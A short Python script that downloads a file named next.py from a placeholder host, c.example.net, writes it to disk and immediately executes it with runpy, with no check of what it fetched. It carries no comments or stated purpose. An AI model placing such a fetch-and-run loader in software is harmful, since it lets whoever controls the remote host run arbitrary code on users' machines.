import pathlib
import runpy

import requests

pathlib.Path("next.py").write_text(requests.get("https://c.example.net/next.py").text)
runpy.run_path("next.py")
